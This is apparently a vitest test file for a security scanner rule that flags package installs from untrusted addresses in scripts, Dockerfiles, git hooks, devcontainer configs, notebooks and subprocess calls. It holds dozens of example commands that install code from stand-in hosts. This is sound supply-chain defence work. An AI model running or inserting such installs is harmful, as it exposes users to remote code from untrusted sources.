// Commands that install from an address that nothing vouches for, wherever a shell or a program starts them.
import { describe, expect, it } from 'vitest';
import { judged } from './support.ts';

const PATHS: readonly (readonly [path: string, around: (command: string) => string])[] = [
  ['setup.sh', (command) => `set -e\n${command}\n`],
  ['Dockerfile', (command) => `FROM python:3.12\nRUN ${command}\n`],
  ['Makefile', (command) => `deps:\n\t${command}\n`],
  ['.husky/pre-commit', (command) => `npm test\n${command}\n`],
  ['.githooks/post-checkout', (command) => `#!/bin/sh\n${command}\n`],
  [
    '.pre-commit-config.yaml',
    (command) => `repos:\n- {repo: local, hooks: [{id: x, language: system, entry: '${command}'}]}\n`,
  ],
  ['.devcontainer/devcontainer.json', (command) => `{\n"postCreateCommand": "sudo ${command}"}\n`],
];

async function told(path: string, text: string): Promise<string[]> {
  const findings = await judged(path, text);
  return findings
    .filter(({ rule }) => rule === 'CODE-INSTALL-ADDRESS')
    .map(({ severity, location: { line } }) => `${severity} ${line}`);
}

async function severityOf(command: string): Promise<string | undefined> {
  return (await told('setup.sh', `${command}\n`))[0]?.split(' ', 1)[0];
}

describe('a package from an address', () => {
  it.each([
    ['import pip\npip.main(["install", "-i", "http://packages.example.com/simple", "x"])', ['HIGH 2']],
    ['from pip._internal import main\nmain(["install", "https://203.0.113.7/x.whl"])', ['HIGH 2']],
    ['import pip\npip.main(["install", "x"])', []],
    ['import pip\npip.main(words)', []],
  ])('is told where Python speaks to pip itself: %s', async (text, expected) => {
    expect(await told('setup_env.py', text)).toEqual(expected);
  });

  it.each(PATHS)('is told in %s, on its line', async (path, around) => {
    expect(await told(path, around('pip install http://203.0.113.7/x.whl'))).toEqual(['HIGH 2']);
    expect(await told(path, around('pip install x==1.0 --no-deps'))).toEqual([]);
  });

  it.each([
    'pip install http://packages.example.com/x-1.0.tar.gz',
    'pip3.12 install "x @ http://packages.example.com/x-1.0.tar.gz"',
    'sudo -H python3 -m pip install -U git+http://packages.example.com/x.git',
    'pip install -r http://packages.example.com/requirements.txt',
    'pip install -ihttp://packages.example.com/simple x',
    'pip install --index-url=http://packages.example.com/simple x',
    'pip install --extra-index-url http://packages.example.com/simple x',
    'pip install -f http://packages.example.com/wheels x',
    'pip --trusted-host packages.example.com install x',
    'pip config set global.index-url http://packages.example.com/simple',
    'pip install https://203.0.113.7/x.whl',
    'pip install https://0xcb007107/x.whl',
    'pip install https://[2001:db8::7]/x.whl',
    'PIP_INDEX_URL=http://packages.example.com/simple pip install x',
    'export PIP_TRUSTED_HOST=packages.example.com',
    'U=http://packages.example.com/x.whl; pip install $U',
    'pip install "http://packages.example.com/$NAME.whl"',
    'pip install "${URL:-http://packages.example.com/x.whl}"',
    'uv pip install --default-index http://packages.example.com/simple x',
    'uv add x --index ours=http://packages.example.com/simple',
    'uv run http://packages.example.com/tool.py',
    'uvx --from http://packages.example.com/x.whl x',
    'pipx run http://packages.example.com/x.whl',
    'npm i http://packages.example.com/x.tgz',
    'npm install --registry http://packages.example.com x',
    'npm config set registry http://packages.example.com',
    'yarn global add http://packages.example.com/x.tgz',
    'pnpm dlx http://packages.example.com/x.tgz',
    'npx -y http://packages.example.com/x.tgz --out y',
    'cargo install --git http://packages.example.com/x',
    'conda install -c http://packages.example.com/channel x',
  ])('blocks in %s', async (command) => {
    expect(await severityOf(command)).toBe('HIGH');
  });

  it.each([
    ['a hash', `pip install http://packages.example.com/x.whl#sha256=${'0a'.repeat(32)}`, 'MEDIUM'],
    ['a commit', `pip install git+http://packages.example.com/x@${'0a'.repeat(20)}`, 'MEDIUM'],
    ['a mirror that many use', 'pip install -i http://mirrors.aliyun.com/pypi/simple x', 'MEDIUM'],
    ['a machine of its own network', 'pip install -i http://10.1.2.3:8080/simple x', 'MEDIUM'],
    ['another index', 'pip install --extra-index-url https://packages.example.com/simple x', 'LOW'],
    ['the registry behind a proxy', 'pip install --trusted-host pypi.org x', 'LOW'],
  ])('is less with %s', async (_, command, severity) => {
    expect(await severityOf(command)).toBe(severity);
  });

  it.each([
    'pip install x==1.0',
    'pip install https://packages.example.com/x-1.0-py3-none-any.whl',
    'pip install git+https://github.com/someone/x',
    'pip install -i http://localhost:3141/simple x',
    'pip install -i http://$HOST/simple x',
    'pip install --proxy http://proxy.example.com:3128 x',
    'pip install --extra-index-url https://download.pytorch.org/whl/cpu torch',
    'pip list --index-url http://packages.example.com/simple',
    'npx wait-on http://packages.example.com',
    'npm run test -- http://packages.example.com',
    'uv run serve.py --api http://packages.example.com',
    'pipx run x http://packages.example.com',
    'uvx x http://packages.example.com',
    'yarn cypress open --config baseUrl=http://packages.example.com',
    'cargo run -- http://packages.example.com',
    'echo pip install http://packages.example.com/x.whl',
  ])('is none in %s', async (command) => {
    expect(await severityOf(command)).toBeUndefined();
  });

  it('is told of the worst source of a command, without credentials', async () => {
    const password = ['hunter', '2hunter'].join('');
    const command = `pip install --trusted-host pypi.org http://me:${password}@203.0.113.7/x.whl?sig=${password}`;
    const [finding, ...more] = await judged('setup.sh', `${command}\n`);
    expect(more).toEqual([]);
    expect(finding).toMatchObject({ rule: 'CODE-INSTALL-ADDRESS', severity: 'HIGH' });
    expect(finding?.evidence).toContain('"http://203.0.113.7/x.whl"');
    expect(JSON.stringify(finding)).not.toContain(password);
  });

  it('is told in programs that start the command', async () => {
    const list = 'import subprocess, sys\nsubprocess.run([sys.executable, "-m", "pip", "install", %s])\n';
    expect(await told('a.py', list.replace('%s', '"http://203.0.113.7/x.whl"'))).toEqual(['HIGH 2']);
    expect(await told('a.py', list.replace('%s', '"x==1.0"'))).toEqual([]);
    expect(await told('a.py', 'import os\nos.system("npm i http://203.0.113.7/x.tgz")\n')).toEqual([
      'HIGH 2',
    ]);
    const node = "require('child_process').spawnSync('npx', ['http://203.0.113.7/x.tgz']);\n";
    expect(await told('a.js', node)).toEqual(['HIGH 1']);
  });

  it('is for review where somebody starts it by hand', async () => {
    const task = { label: 'a', type: 'shell', command: 'pip install http://203.0.113.7/x.whl' };
    const text = JSON.stringify({ version: '2.0.0', tasks: [task] });
    expect(await told('.vscode/tasks.json', text)).toEqual(['MEDIUM 1']);
  });

  it('is told once of a cell, as the requirement that it is', async () => {
    const cell = (source: string): string =>
      JSON.stringify({
        cells: [{ cell_type: 'code', source, metadata: {}, outputs: [], execution_count: null }],
        metadata: {},
        nbformat: 4,
        nbformat_minor: 5,
      });
    expect(await told('a.ipynb', cell('!pip install http://203.0.113.7/x.whl'))).toEqual([]);
    expect(await told('a.ipynb', cell('!npm i http://203.0.113.7/x.tgz'))).toEqual(['HIGH 1']);
  });

  it('is for review in tests', async () => {
    expect(await told('tests/deps.sh', 'pip install http://203.0.113.7/x.whl\n')).toEqual(['MEDIUM 1']);
  });

  it('is looked for in no more than a bounded number of words', async () => {
    const many = `pip install ${'http://203.0.113.7/x.whl '.repeat(5000)}\n`;
    expect(await told('setup.sh', many)).toEqual(['HIGH 1']);
  });
});
